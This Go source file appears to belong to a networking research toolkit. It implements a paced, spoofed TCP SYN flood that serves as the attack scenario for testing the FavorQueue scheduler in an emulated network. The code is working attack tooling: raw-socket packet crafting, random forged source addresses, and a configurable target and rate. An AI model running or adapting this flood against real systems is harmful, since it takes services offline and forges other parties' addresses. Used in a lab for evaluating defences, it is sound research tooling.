package main

// favorflow synflood: a spoofed TCP SYN flood at a steady packet rate, the attack of the synflood scenario
// (FavorQueue paper, Section 9.1: does favoring new flows' first packets add a risk?). Every packet is a
// bare SYN (40 bytes of IPv4 and TCP, no options, as classic floods send) from a random address of the spoof
// prefix and a random port: a new 5-tuple each, so FavorQueue favors every one.
//
// Written here rather than taken from trafgen (netsniff-ng) or the kernel's pktgen: trafgen's --rate sends
// each second's packets back to back and then sleeps for the rest of the second (shaper_delay), a one-second
// on/off burst instead of a rate, and pktgen only drives devices of the initial network namespace, not a
// Mininet host's. Here the pacing is per millisecond: at each tick the packets due since the start are sent,
// so the flood is steady at the queue's time scale (one 1500-byte packet takes 1.2 ms at 10 Mb/s).
//
// A raw IPPROTO_RAW socket (IP_HDRINCL): the kernel routes each packet by its destination and fills in the
// IPv4 checksum and total length; the TCP checksum is computed here. Needs root (CAP_NET_RAW). The summary
// (JSON) goes to --out at exit: packets sent, send errors, packets missed (the sender was more than 10 ms
// behind), the first and last send times, the rate reached.

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math/rand"
	"net"
	"os"
	"os/signal"
	"syscall"
	"time"
)

// synLen is the size of one flood packet at the IP layer: a 20-byte IPv4 header and a 20-byte TCP header.
const synLen = 40

type floodSummary struct {
	Dst         string  `json:"dst"`
	Dport       int     `json:"dport"`
	Spoof       string  `json:"spoof"`
	PpsWanted   float64 `json:"pps_wanted"`
	DurationS   float64 `json:"duration_s"`
	Sent        int64   `json:"sent"`
	SendErrors  int64   `json:"send_errors"`
	Missed      int64   `json:"missed"`
	FirstError  string  `json:"first_error,omitempty"`
	StartUnix   float64 `json:"start_unix"`
	EndUnix     float64 `json:"end_unix"`
	PpsReached  float64 `json:"pps_reached"`
	PacketBytes int     `json:"packet_bytes_ip"`
	Seed        int64   `json:"seed"`
}

// tcpChecksum is the TCP checksum of seg (its checksum field zero) over the IPv4 pseudo-header.
func tcpChecksum(src, dst net.IP, seg []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(src.To4())
	add(dst.To4())
	sum += uint32(syscall.IPPROTO_TCP) + uint32(len(seg))
	add(seg)
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	return ^uint16(sum)
}

// synPacket writes one spoofed SYN into buf (synLen bytes): source address src, source port sport.
func synPacket(buf []byte, src, dst net.IP, sport, dport uint16, seq uint32, ipid uint16) {
	for i := range buf[:synLen] {
		buf[i] = 0
	}
	ip, tcp := buf[:20], buf[20:synLen]
	ip[0] = 0x45 // IPv4, 5 words
	binary.BigEndian.PutUint16(ip[2:], synLen)
	binary.BigEndian.PutUint16(ip[4:], ipid)
	ip[8] = 64 // TTL
	ip[9] = syscall.IPPROTO_TCP
	copy(ip[12:16], src.To4())
	copy(ip[16:20], dst.To4())
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], seq)
	tcp[12] = 5 << 4 // data offset: 5 words
	tcp[13] = 0x02   // SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	binary.BigEndian.PutUint16(tcp[16:], tcpChecksum(src, dst, tcp))
}

// spoofSource draws an address of the prefix: the host part at random, never the prefix's own address
// or its broadcast (a /31 or /32 prefix gives its addresses as they are).
func spoofSource(rng *rand.Rand, prefix *net.IPNet) net.IP {
	ones, bits := prefix.Mask.Size()
	base := binary.BigEndian.Uint32(prefix.IP.To4())
	host := uint32(0)
	if span := uint64(1) << uint(bits-ones); span > 2 {
		host = 1 + uint32(rng.Int63n(int64(span-2)))
	} else if span == 2 {
		host = uint32(rng.Intn(2))
	}
	out := make(net.IP, 4)
	binary.BigEndian.PutUint32(out, base|host)
	return out
}

func synfloodMain(argv []string) {
	ap := &argParser{prog: "favorflow synflood", desc: "Spoofed TCP SYN flood at a steady rate (paced per millisecond); a JSON summary at exit.",
		specs: []flagSpec{
			{name: "dst", kind: "str", required: true, help: "destination IPv4 address (the attacked server)"},
			{name: "dport", kind: "int", required: true, help: "destination port"},
			{name: "spoof", kind: "str", required: true, help: "IPv4 prefix the source addresses are drawn from, e.g. 10.66.0.0/16"},
			{name: "pps", kind: "float", required: true, help: "packets per second"},
			{name: "duration", kind: "float", required: true, help: "seconds of flood"},
			{name: "out", kind: "str", required: true, help: "summary JSON written at exit"},
			{name: "seed", kind: "int", help: "seed of the addresses, ports and sequence numbers (default 1)"},
			{name: "start-at", kind: "float", help: "unix time to start at (default: now)"},
		}}
	a := ap.parse(argv)
	dst := net.ParseIP(a["dst"]).To4()
	if dst == nil {
		ap.fail(fmt.Sprintf("--dst %s: not an IPv4 address", pyRepr(a["dst"])))
	}
	_, prefix, err := net.ParseCIDR(a["spoof"])
	if err != nil || prefix.IP.To4() == nil {
		ap.fail(fmt.Sprintf("--spoof %s: not an IPv4 prefix (e.g. 10.66.0.0/16)", pyRepr(a["spoof"])))
	}
	dport := a.int("dport")
	if dport < 1 || dport > 65535 {
		ap.fail("--dport must be 1 to 65535")
	}
	pps, duration := a.float("pps", 0), a.float("duration", 0)
	if !(pps > 0) || !(duration > 0) {
		ap.fail("--pps and --duration must be > 0")
	}
	seed := int64(1)
	if a.has("seed") {
		seed = int64(a.int("seed"))
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		fatal("favorflow synflood: a raw socket needs root (CAP_NET_RAW): " + err.Error())
	}
	defer syscall.Close(fd)
	sa := &syscall.SockaddrInet4{}
	copy(sa.Addr[:], dst)

	if a.has("start-at") {
		if wait := time.Until(time.Unix(0, int64(a.float("start-at", 0)*1e9))); wait > 0 {
			time.Sleep(wait)
		}
	}
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
	rng := rand.New(rand.NewSource(seed))
	sum := floodSummary{Dst: dst.String(), Dport: dport, Spoof: prefix.String(), PpsWanted: pps, DurationS: duration,
		PacketBytes: synLen, Seed: seed}
	buf := make([]byte, synLen)
	start := time.Now()
	end := start.Add(time.Duration(duration * float64(time.Second)))
	var first, last time.Time
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
loop:
	for {
		now := time.Now()
		if !now.Before(end) {
			break
		}
		due := int64(now.Sub(start).Seconds() * pps)
		// a sender that was not scheduled for a while (a busy guest) does not catch up in one burst: what
		// is more than 10 ms late is counted as missed, so the summary's rate says what was really sent
		if late := due - (sum.Sent + sum.SendErrors + sum.Missed); float64(late) > pps/100+1 {
			sum.Missed += late - int64(pps/100+1)
		}
		for sum.Sent+sum.SendErrors+sum.Missed < due {
			src := spoofSource(rng, prefix)
			synPacket(buf, src, dst, uint16(1024+rng.Intn(64512)), uint16(dport), rng.Uint32(), uint16(rng.Intn(65536)))
			if err := syscall.Sendto(fd, buf, 0, sa); err != nil {
				// ENOBUFS: the sender's own queue is full; counted, not retried (a flood does not wait)
				if sum.SendErrors == 0 {
					sum.FirstError = err.Error()
				}
				sum.SendErrors++
				continue
			}
			sum.Sent++
			if first.IsZero() {
				first = time.Now()
			}
			last = time.Now()
		}
		select {
		case <-stop:
			break loop
		case <-tick.C:
		}
	}
	if !first.IsZero() {
		sum.StartUnix = float64(first.UnixNano()) / 1e9
		sum.EndUnix = float64(last.UnixNano()) / 1e9
		if el := last.Sub(start).Seconds(); el > 0 {
			sum.PpsReached = float64(sum.Sent) / el
		}
	}
	out, _ := json.MarshalIndent(sum, "", "  ")
	if err := os.WriteFile(a["out"], append(out, '\n'), 0o644); err != nil {
		fatal("favorflow synflood: " + err.Error())
	}
}
